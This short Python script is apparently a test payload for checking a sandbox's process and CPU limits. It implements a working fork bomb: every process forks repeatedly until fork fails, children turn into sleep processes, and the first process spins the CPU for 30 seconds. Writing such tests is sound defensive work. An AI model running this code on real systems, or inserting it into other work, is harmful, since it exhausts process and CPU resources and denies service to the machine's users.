# where: conv_forward
# Fork bomb: every process, children included, forks as fast as it can until fork fails (at most
# 100 tries each); a child whose fork failed becomes `sleep {marker}`. The first process reports how
# far it got, then spins out the check's CPU time (bounded: 30 s of wall clock).
import os
import time
origin, forked, error = os.getpid(), 0, None
for _ in range(100):
    try:
        pid = os.fork()
    except OSError as exc:
        error = exc
        break
    forked = forked + 1 if pid else 0      # a child starts counting afresh and goes on forking
if os.getpid() != origin:
    try:
        os.execv('/usr/bin/sleep', ['sleep', '{marker}'])
    finally:
        os._exit(0)
print('ATTACK: fork bomb: the first process forked %d times, then %s' % (forked, error or 'no error'), flush=True)
end = time.monotonic() + 30
while time.monotonic() < end:
    pass
